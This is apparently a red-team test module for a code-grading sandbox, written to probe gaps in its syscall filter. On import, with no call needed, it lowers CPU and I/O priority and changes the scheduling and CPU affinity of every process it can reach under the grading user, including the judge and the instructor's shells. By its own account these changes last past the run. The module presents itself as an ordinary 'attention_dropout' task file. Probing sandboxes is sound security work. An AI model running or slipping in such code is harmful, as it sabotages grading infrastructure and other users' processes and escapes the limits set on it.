"""Red team 2 (the grading user's other processes, lasting past the run): setpriority(PRIO_USER),
ioprio_set(IOPRIO_WHO_USER), sched_setscheduler and sched_setaffinity on other processes are not in the
filter; the kernel allows them on every process of the same uid that the caller's PID namespace shows.
In the basic mode as an ordinary user that is every process of the grading user: the judge, the fork
server, the instructor's shells and editors, which keep nice 19, the idle I/O class and SCHED_IDLE
after the run. Reports how many processes of other pids it changed.

base: buggy
class: k
run: main
"""

import ctypes as _ctypes
import os as _os

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long


def _others():
    # What was changed is counted by the calls that succeeded (a process's nice value says nothing: a machine
    # may run everything at nice 19 from boot).
    me = _os.getpid()
    changed = set()
    try:
        _os.setpriority(_os.PRIO_USER, 0, 19)  # every process of this uid the namespace shows
        changed.add("every process of the user: nice 19")
    except OSError:
        pass
    if _libc.syscall(251, 3, 0, (3 << 13) | 7) == 0:  # ioprio_set(IOPRIO_WHO_USER, own uid, IOPRIO_CLASS_IDLE)
        changed.add("every process of the user: idle I/O")
    for pid in range(max(2, me - 4000), me + 200):
        if pid in (me, _os.getppid()):
            continue
        try:
            _os.sched_setscheduler(pid, _os.SCHED_IDLE, _os.sched_param(0))
            changed.add(pid)
        except OSError:
            pass
        try:
            _os.sched_setaffinity(pid, {0})
            changed.add(pid)
        except OSError:
            pass
    return len(changed)


_CHANGED = _others()


def attention_dropout(*args, **kwargs):
    raise RuntimeError(f"RTEAM2 r_renice_user ran: ALLOWANCE kernel {int(_CHANGED > 0)} "
                       f"(other processes reniced or rescheduled: {_CHANGED})")
